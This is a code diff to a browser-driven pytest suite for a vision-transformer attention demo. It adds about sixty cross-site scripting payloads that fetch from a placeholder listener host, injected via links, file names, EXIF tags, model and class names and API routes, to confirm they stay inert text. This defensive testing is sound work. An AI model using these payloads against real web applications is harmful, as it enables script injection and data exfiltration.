@@ -10,7 +10,7 @@ from contextlib import contextmanager
 from dataclasses import dataclass, field, replace
 from threading import Thread
 from typing import Any
-from urllib.parse import urlencode, urlsplit
+from urllib.parse import quote, urlencode, urlsplit
 
 import httpx
 import pytest
@@ -19,7 +19,9 @@ from PIL import Image
 import vitattn_widgets as va
 from vitattn_widgets.demo.controls import DEFAULTS
 from vitattn_widgets.demo.routes import PREFIX
+from vitattn_widgets.demo.service import safe_name
 
+from .. import model_zoo
 from ..conftest import noise_photo
 from ..lab import CHROMIUM, running_browser
 from .lab import Visitor, png, running_page
@@ -51,7 +53,70 @@ PAYLOADS = (
     "${{fetch('//{host}/{n}')}} {{{{fetch('//{host}/{n}')}}}}",
     "url(//{host}/{n})",
     "&lt;img src=//{host}/{n}&gt;<details open ontoggle=fetch('//{host}/{n}')>",
+    "<ScRiPt SrC=//{host}/{n}></sCrIpT>",
+    "<script/src=//{host}/{n}></script>",
+    "<script\tsrc=//{host}/{n}\n></script>",
+    "<scr<script>ipt>fetch('//{host}/{n}')</scr</script>ipt>",
+    "<script type=module>import '//{host}/{n}'</script>",
+    "<script>import('//{host}/{n}')//",
+    "</script><script>fetch('//{host}/{n}')</script>",
+    "<img/src=//{host}/{n}>",
+    "<img src=x onerror=fetch`//{host}/{n}`>",
+    "<img srcset='//{host}/{n} 2x'>",
+    "<img src=`//{host}/{n}`>",
+    "<img src=//{host}/{n} <b>",
+    "<<img src=//{host}/{n}>>",
+    "<image src=//{host}/{n}>",
+    "<picture><source srcset=//{host}/{n}><img></picture>",
+    "<audio src=//{host}/{n} autoplay></audio>",
+    "<video><source onerror=fetch('//{host}/{n}')></video>",
+    "<track src=//{host}/{n} default>",
+    "<body onload=fetch('//{host}/{n}') background=//{host}/{n}>",
+    "<frameset><frame src=//{host}/{n}></frameset>",
+    "<iframe src=javascript:fetch('//{host}/{n}')>",
+    "<iframe src='data:text/html,<img src=//{host}/{n}>'>",
+    "<object data='data:text/html,<img src=//{host}/{n}>'>",
+    "<embed src=javascript:fetch('//{host}/{n}')>",
+    "<form><button formaction=//{host}/{n}>go",
+    "<input onfocus=fetch('//{host}/{n}') autofocus>",
+    "<select autofocus onfocus=fetch('//{host}/{n}')>",
+    "<textarea autofocus onfocus=fetch('//{host}/{n}')>",
+    "<isindex type=image src=//{host}/{n}>",
+    "<marquee onstart=fetch('//{host}/{n}')>x</marquee>",
+    "<svg><script href=//{host}/{n} /></svg>",
+    "<svg><use href=//{host}/{n}#x /></svg>",
+    "<svg><animate onbegin=fetch('//{host}/{n}') attributeName=x dur=1s>",
+    "<svg><style>@import url(//{host}/{n})</style></svg>",
+    "<math><mtext><img src=//{host}/{n}></mtext></math>",
+    "<math href=javascript:fetch('//{host}/{n}')>x</math>",
+    "<template shadowrootmode=open><img src=//{host}/{n}></template>",
+    "<noscript><p title='</noscript><img src=//{host}/{n}>'>",
+    "<xmp><img src=//{host}/{n}></xmp><plaintext>",
+    "<link rel=prefetch href=//{host}/{n}>",
+    "<link rel=preload as=image href=//{host}/{n}>",
+    "<meta http-equiv=Content-Security-Policy content=''><img src=//{host}/{n}>",
+    "<style>b{{background:url(//{host}/{n})}}</style>",
+    "<p style=\"list-style:url('//{host}/{n}')\">x",
+    "<table background=//{host}/{n}><td background=//{host}/{n}>",
+    "-->\"'><img src=//{host}/{n}><!--",
+    "]]><img src=//{host}/{n}>",
+    "&#60;img src=//{host}/{n}&#62;",
+    "%3Cimg%20src=//{host}/{n}%3E",
+    "\\u003cimg src=//{host}/{n}\\u003e",
+    "\\x3cimg src=//{host}/{n}\\x3e",
+    "\u202e<img src=//{host}/{n}>",
+    "\ufeff<img src=//{host}/{n}>",
+    "`-fetch('//{host}/{n}')-`",
+    "';fetch('//{host}/{n}');'",
+    "</style><img src=//{host}/{n}>",
+    "javascript:fetch('//{host}/{n}')",
+    "data:text/html,<script>fetch('//{host}/{n}')</script>",
+    "![x](//{host}/{n} \"t\") <http://{host}/{n}>",
+    "{{{{constructor.constructor('fetch(`//{host}/{n}`)')()}}}}",
 )  # fmt: skip
+
+TAGS = (0x010E, 0x010F, 0x0131, 0x013B, 0x8298)
+"""Of EXIF: description, make, software, artist, copyright."""
 
 FOREIGN = """(host) => {
     const loading = /^(src|href|xlink:href|srcset|data|poster|background|action|formaction|ping|style|content|srcdoc)$/;
@@ -118,10 +183,13 @@ def listener() -> Iterator[Listener]:
 
 
 @pytest.fixture(scope="module")
-def evil_model(wide_model: va.models.AttentionModel, listener: Listener) -> va.models.AttentionModel:
+def evil_model(listener: Listener) -> va.models.AttentionModel:
     """A model from a stranger's checkpoint: its name and its classes are payloads."""
-    names = tuple(listener.payload(index) for index in range(len(wide_model.class_names)))
-    return replace(wide_model, name=listener.payload(0), class_names=names)
+    module = model_zoo.build("vit", model_zoo.WIDE)
+    module.reset_classifier(len(PAYLOADS))
+    module.head.weight.data.normal_(0, 0.3)
+    model = va.load_model(module)
+    return replace(model, name=listener.payload(0), class_names=tuple(map(listener.payload, range(len(PAYLOADS)))))
 
 
 @pytest.fixture(scope="module")
@@ -135,12 +203,15 @@ def visitor(served, listener: Listener):
     visitor = Visitor(served[1], served[0])
     yield visitor
     visitor.page.wait_for_timeout(300)
-    assert visitor.page.evaluate(FOREIGN, listener.host) == []
-    assert visitor.page.evaluate("typeof window.harmed") == "undefined"
-    assert listener.heard == []
+    assert_only_text(visitor, listener)
     hosts = {urlsplit(address).netloc for _, address in visitor.requests if address.startswith("http")}
     assert hosts == {urlsplit(served[0]).netloc}
     visitor.close()
+
+
+def assert_only_text(visitor: Visitor, listener: Listener) -> None:
+    assert visitor.page.evaluate(FOREIGN, listener.host) == []
+    assert listener.heard == []
 
 
 def look(visitor: Visitor, query: str = "") -> None:
@@ -149,20 +220,26 @@ def look(visitor: Visitor, query: str = "") -> None:
     visitor.wait_until()
 
 
-@pytest.mark.parametrize("start", [0, 8, 16])
-def test_what_a_link_says_stays_text(visitor: Visitor, listener: Listener, start: int) -> None:
+def test_what_a_link_says_stays_text(visitor: Visitor, listener: Listener) -> None:
     names = ["model", "sample", "panels", "difference", *DEFAULTS, "deep_link", "__theme", "q"]
-    link = {name: listener.payload(start + number) for number, name in enumerate(names)}
-    look(visitor, f"?{urlencode(link)}")
-    message = visitor.message()
-    assert all(listener.payload(start + number)[:8] in message for number in (1, 4))  # said, as text
+    for start in range(0, len(PAYLOADS), len(names)):
+        link = {name: listener.payload(start + number) for number, name in enumerate(names)}
+        look(visitor, f"?{urlencode(link)}")
+        message = visitor.message()
+        for name in ("model", "sample", "aggregation", "cmap"):  # said, as text
+            assert repr(link[name])[:12] in message
+        assert_only_text(visitor, listener)
 
 
-def test_what_a_panel_of_a_link_says_stays_text(visitor: Visitor, listener: Listener) -> None:
+def test_what_a_panel_of_a_link_says_stays_text(visitor: Visitor, listener: Listener, evil_model) -> None:
+    whole = {"model": evil_model.name, "picture": "chelsea"}
     fields = ("model", "picture", "source", "query", "target", "head", "aggregation", "sinks")
-    panels = [{name: listener.payload(number + shift) for number, name in enumerate(fields)} for shift in range(3)]
-    look(visitor, f"?{urlencode({'panels': json.dumps(panels)})}")
-    assert "the comparison cannot be shown" in visitor.message()
+    others = [{name: listener.payload(index) for name in fields} for index in range(len(PAYLOADS))]
+    for number, name in enumerate(fields):
+        panels = [whole | {name: listener.payload(10 * number)}, *others[10 * number : 10 * number + 11]]
+        look(visitor, f"?{urlencode({'panels': json.dumps(panels)})}")
+        assert "the comparison cannot be shown" in visitor.message()
+        assert_only_text(visitor, listener)
 
 
 def test_names_of_files_stay_text(visitor: Visitor, listener: Listener) -> None:
@@ -174,13 +251,13 @@ def test_names_of_files_stay_text(visitor: Visitor, listener: Listener) -> None:
         visitor.paste(b"no picture", f"{payload}.png")
         assert "not a picture of a known type" in visitor.message()
         visitor.page.get_by_role("button", name="Close this message").click()
-        if index % 6 == 0:
-            for tag in (0x010E, 0x010F, 0x0131, 0x013B, 0x8298):  # description, make, software, artist, copyright
-                exif[tag] = payload
+        exif[TAGS[index % len(TAGS)]] = payload
+        if len(exif) == len(TAGS) or index == len(PAYLOADS) - 1:
             stream = io.BytesIO()
             Image.fromarray(noise_photo((60, 90), index)).save(stream, "PNG", exif=exif)
             visitor.paste(stream.getvalue(), f"{name}.png")
-            visitor.wait_until(picture=f"{name}.png"[-80:])
+            visitor.wait_until(picture=safe_name(f"{name}.png"))
+            exif = Image.Exif()
 
 
 def test_names_of_classes_and_models_stay_text(visitor: Visitor, evil_model) -> None:
@@ -193,8 +270,11 @@ def test_names_of_classes_and_models_stay_text(visitor: Visitor, evil_model) -> 
         page.get_by_role("button", name=drawer, exact=True).click()
     page.get_by_role("button", name="Check this map").click()
     page.locator(".va-result-class").wait_for(timeout=30000)
-    shown = page.locator(".va-viewer").inner_text()
-    assert any(name in shown for name in evil_model.class_names)  # said, as text
+    search, found = page.get_by_label("Search a class"), set()
+    for name in evil_model.class_names:
+        search.fill(name)
+        found.update(page.locator(".va-viewer").inner_text().splitlines())
+    assert sum(any(name in line for line in found) for name in evil_model.class_names) > 60  # said, as text
 
 
 def test_the_api_page_shows_a_link_and_a_model_as_text(visitor: Visitor, listener: Listener) -> None:
@@ -203,18 +283,26 @@ def test_the_api_page_shows_a_link_and_a_model_as_text(visitor: Visitor, listene
     visitor.page.get_by_text("gradio_client").first.wait_for(timeout=20000)
 
 
-@pytest.mark.parametrize("kind", ["upload", "check", "capsule", "open"])
-def test_no_answer_of_a_route_is_a_page(served, listener: Listener, kind: str) -> None:
+def test_no_answer_of_a_route_is_a_page(served, listener: Listener) -> None:
     """Opened in a window of its own, an answer with a payload in it is not read as HTML."""
-    payload, photo = listener.payload(0), png(noise_photo((9, 9)))
-    answer = {
-        "upload": lambda at: httpx.post(at, params={"name": payload, "model": payload}, content=photo),
-        "check": lambda at: httpx.post(at, json={"model": payload, "settings": {"cmap": payload}}),
-        "capsule": lambda at: httpx.get(at, params={"model": payload, "sample": payload}),
-        "open": lambda at: httpx.get(at, params={"cmap": payload}),
-    }[kind](f"{served[0]}/{PREFIX}/{kind}")  # fmt: skip
-    assert answer.headers["Content-Type"] == "application/json"
-    assert answer.headers["X-Content-Type-Options"] == "nosniff"
+    photo = png(noise_photo((9, 9)))
+    with httpx.Client(base_url=served[0], timeout=60) as program:
+        for payload in map(listener.payload, range(len(PAYLOADS))):
+            at, api = f"/{PREFIX}", "/gradio_api"
+            for answer in (
+                program.post(f"{at}/upload", params={"name": payload, "model": payload}, content=photo),
+                program.post(f"{at}/check", json={"model": payload, "settings": {"cmap": payload}}),
+                program.post(f"{at}/file", json={"model": payload, "sample": payload, "what": payload}),
+                program.post(f"{at}/more", json={"model": payload, "request": {"need": payload}}),
+                program.get(f"{at}/capsule", params={"model": payload, "sample": payload}),
+                program.get(f"{at}/open", params={"cmap": payload}),
+                program.post(f"{api}/call/map", json={"data": [payload] * 5}),
+                program.post(f"{api}/call/v2/map", json={payload: payload}),
+                program.post(f"{api}/call/v2/{quote(payload, safe='')}", json={}),
+                program.get(f"{api}/file={quote(payload, safe='')}"),
+            ):
+                assert answer.headers["Content-Type"] == "application/json", answer.request.url
+                assert answer.headers["X-Content-Type-Options"] == "nosniff"
 
 
 def test_the_login_page_shows_no_text_of_a_visitor(wide_model, tmp_path, served, listener: Listener) -> None:
